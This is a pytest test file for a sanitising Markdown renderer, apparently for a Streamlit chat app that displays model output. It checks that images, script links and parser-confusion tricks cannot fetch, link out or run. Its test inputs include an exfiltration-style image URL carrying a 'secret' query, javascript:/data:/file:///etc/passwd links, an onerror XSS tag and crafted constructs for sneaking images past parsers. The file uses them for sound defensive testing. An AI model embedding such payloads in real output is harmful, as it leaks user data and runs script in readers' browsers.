"""The renderer for model text: what reaches st.markdown cannot fetch, link out or run.

Each output is checked two ways: the renderer's own parser finds nothing left to change, and
a plain CommonMark renderer (markdown-it, HTML off: what a standard reader makes of it)
produces no <img> and no link that is not http(s) or mailto. The e2e test in
tests/e2e/test_chat_e2e.py checks the same in Streamlit's own frontend.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml
from mdit_py_plugins.dollarmath import dollarmath_plugin
from mdit_py_plugins.footnote import footnote_plugin
from streamlit.testing.v1 import AppTest

from core.providers import ErrorKind, ProviderError
from core.ui import render
from core.ui.errors import describe, neutral
from core.ui.render import LiveMarkdown, literal, safe_markdown

EVIL = "http://127.0.0.1:9/leak.png?q=secret"
# What st.markdown makes of Markdown, as far as this test needs: CommonMark with GFM tables
# and footnotes, raw HTML recognised as HTML (so it is not Markdown) and shown as text.
# Streamlit also reads `$` math (remark-math): the text must be safe read with it and without.
_PLAIN = MarkdownIt("commonmark").enable("table").use(footnote_plugin)
_MATH = MarkdownIt("commonmark").enable("table").use(footnote_plugin).use(
    dollarmath_plugin, allow_space=True, allow_digits=True, double_inline=True)
for _md in (_PLAIN, _MATH):
    _md.add_render_rule("html_block", lambda _r, tokens, i, *_: escapeHtml(tokens[i].content))
    _md.add_render_rule("html_inline", lambda _r, tokens, i, *_: escapeHtml(tokens[i].content))


def html_of(markdown: str) -> str:
    return _PLAIN.render(markdown) + _MATH.render(markdown)


def assert_safe(out: str) -> None:
    """Nothing in `out` is an image, and every link is http(s) or mailto."""
    edits, _ = render._pass(out, {}, "image")
    assert edits == [], f"the renderer would still change {out!r}: {edits}"
    page = html_of(out)
    assert "<img" not in page, page
    for href in re.findall(r'href="([^"]*)"', page):  # a footnote's own anchors: #fn1
        assert href.startswith(("http://", "https://", "mailto:", "#fn")), href


def test_an_inline_remote_image_becomes_a_link_that_is_never_fetched():
    out = safe_markdown(f"Look: ![the chart]({EVIL}) here")
    assert out == f"Look: :material/image:[the chart]({EVIL}) here"
    assert_safe(out)
    assert f'<a href="{EVIL}">the chart</a>' in html_of(out)


def test_an_image_without_alt_text_gets_a_visible_label():
    out = safe_markdown(f"![]({EVIL})", image_label="image")
    assert out == f":material/image:[image]({EVIL})"
    assert_safe(out)


def test_a_reference_style_image_becomes_a_link_too():
    text = f"See ![diagram][d] and ![d]\n\n[d]: {EVIL}"
    out = safe_markdown(text)
    assert out.startswith("See :material/image:[diagram][d] and :material/image:[d]")
    assert_safe(out)


def test_raw_html_is_left_for_streamlit_to_show_as_text():
    text = 'Hi <img src=x onerror="alert(1)"> there\n\n<div>\n<img src="' + EVIL + '">\n</div>'
    out = safe_markdown(text)
    assert out == text  # st.markdown without unsafe_allow_html shows tags as text (e2e)
    assert_safe(out)


@pytest.mark.parametrize("link", ["javascript:alert(1)", "data:text/html,<b>x</b>",
                                  "vbscript:x", "file:///etc/passwd", "relative/path"])
def test_a_link_that_is_not_web_or_mail_is_shown_as_text(link):
    out = safe_markdown(f"[click]({link}) and <{link}>")
    assert out.startswith("\\[click]")
    assert_safe(out)


def test_web_and_mail_links_stay_links():
    text = "[site](https://example.com) <https://example.org> [mail](mailto:a@b.c)"
    assert safe_markdown(text) == text


@pytest.mark.parametrize("text", [
    f"[![badge]({EVIL})](https://example.com)",  # an image inside a link
    f"| a | b |\n|---|---|\n| `x | ![c]({EVIL}) | y` |",  # GFM splits cells before code
    f"[^1]: ![f]({EVIL})\n\nnote[^1]",  # a footnote (remark-gfm draws it)
    f"- item\n  > quote ![q]({EVIL})",
    f"# Title ![h]({EVIL}) #",
    f'$a [x$](https://ok "![m]({EVIL})")',  # Streamlit's math would eat the bracket
    f"$$\nx $$\n<div>\n$$\n![m]({EVIL})\n</div>",  # ...or end an HTML block early
    f"`a ![c]({EVIL})\n$$\nx`\n$$",  # ...or cut a code span at a math line
    f'dir :red[x](https://ok "![d]({EVIL})")',  # a directive's label is not a link's
    f"::leaf[![d]({EVIL})]",
    f"see www.example.com/`a ![z]({EVIL}) `",  # a bare link eats the backtick
    f'www.a.com/[x](y "![z]({EVIL})")',
    f"![outer ![inner]({EVIL})]({EVIL})",
])
def test_constructs_streamlit_reads_differently_are_made_safe(text):
    assert_safe(safe_markdown(text))


# What Streamlit 1.67's frontend was seen to do (in Chromium) with each of these: the text
# after the construct became Markdown there, so the construct is escaped here.
@pytest.mark.parametrize(("text", "want"), [
    # remark-directive: a `:name[label]` is not a link, `{...}` attributes hide a backtick.
    (f'a :red[x](https://ok "![d]({EVIL})")', 'a \\:red[x](https://ok "'),
    ('a :red[x]{t="`"} b `', 'a \\:red[x]{t="`"} b `'),
    (":::note\ntext\n:::", "\\:::note\ntext\n\\:::"),
    # remark-math: `$$` opens display math that closes only on a line of dollars, here
    # inside an HTML block, whose rest then became Markdown.
    (f"$$\nx $$\n<div>\n$$\n![m]({EVIL})\n</div>", "\\$\\$\nx $$"),
    # GFM bare links run over a backtick or a bracket glued to them.
    (f"see www.example.com/`a ![z]({EVIL}) `", "see www.example.com/\\`a :material/image:"),
    (f"http://example.com/[x](https://ok \"![z]({EVIL})\")", "http://example.com/\\[x]"),
])
def test_streamlit_extensions_are_escaped_where_they_would_disagree(text, want):
    out = safe_markdown(text)
    assert out.startswith(want), out
    assert_safe(out)


def test_math_that_cannot_disagree_still_renders_and_dollars_stay_dollars():
    text = "Inline $x^2$ and\n\n$$\n\\frac{a}{b}\n$$\n\nIt costs $5 and $10."
    assert safe_markdown(text) == text


def test_code_keeps_what_looks_like_an_image():
    text = f"```\n![x]({EVIL})\n```\n\nand `![y]({EVIL})`"
    assert safe_markdown(text) == text


def test_text_whose_positions_cannot_be_trusted_is_escaped_whole():
    text = f"> - a\n>\t![x]({EVIL})"  # a tab half-consumed by the list's indent
    out = safe_markdown(text)
    assert_safe(out)


def test_literal_shows_a_name_as_typed():
    name = "=gpt_4*[x](javascript:alert(1))!"
    out = literal(name)
    assert "<a" not in html_of(out) and "<em>" not in html_of(out)
    assert _PLAIN.render(out) == "<p>=gpt_4*[x](javascript:alert(1))!</p>\n"
    assert literal("two\nlines") == "two lines"


CORPUS = [
    "# Plan\n\nFirst a paragraph with `code` and a [link](https://example.com).\n\n"
    f"- one ![i]({EVIL})\n- two\n\n```python\nprint('![no]({EVIL})')\n```\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n$$\nx^2\n$$\n\nThe end.",
    f"Intro\n\n![x][r]\n\nmiddle [^n]\n\n[r]: {EVIL}\n\n[^n]: note ![f]({EVIL})\n\ntail",
    f"<details>\n\n![h]({EVIL})\n\n</details>\n\npara $a [x$](u)\n\n:::note\ntext\n:::\n",
]


@pytest.mark.parametrize("text", CORPUS)
def test_a_streaming_answer_renders_as_the_whole_text_at_every_step(text):
    live = LiveMarkdown("image")
    for n in range(1, len(text) + 1):
        assert live(text[:n]) == safe_markdown(text[:n], "image"), text[:n]


def test_a_label_defined_late_makes_earlier_text_render_again():
    live = LiveMarkdown("image")
    head = "Look at ![chart][c]\n\nmore words\n\n"
    live(head)
    live(head + "x")
    out = live(head + f"x\n\n[c]: {EVIL}\n")
    assert ":material/image:[chart][c]" in out
    assert_safe(out)


def test_server_error_text_with_markdown_is_drawn_safe():
    err = ProviderError(ErrorKind.SERVER, f"Oops ![x]({EVIL}) [a](javascript:alert(1)) **bold**",
                        model="m", url="https://u:p@host/v1", http_status=500,
                        request_id="req_1")
    body = render.markdown(describe(err.hint, err.context, detail=err.detail,
                                    http_status=err.http_status, request_id=err.request_id))
    assert_safe(body)
    assert "**bold**" in body and "https://***@host/v1" in body and "u:p@" not in body


def test_show_error_draws_the_safe_sentence():
    def page() -> None:
        from core.providers import ErrorKind, ProviderError
        from core.ui.errors import show_error
        show_error(ProviderError(ErrorKind.SERVER, "see ![x](http://127.0.0.1:9/leak.png)",
                                 model="m", url="https://user:pass@host/v1"))

    at = AppTest.from_function(page).run()
    [box] = at.error
    assert ":material/image:[x](http://127.0.0.1:9/leak.png)" in box.value
    assert "user:pass" not in box.value and "https://***@host/v1" in box.value


def test_a_blind_failure_says_what_failed_and_nothing_else():
    sentence = neutral("rate_limited")
    assert "rate limit" in sentence
    assert neutral("something-new") == neutral("server")
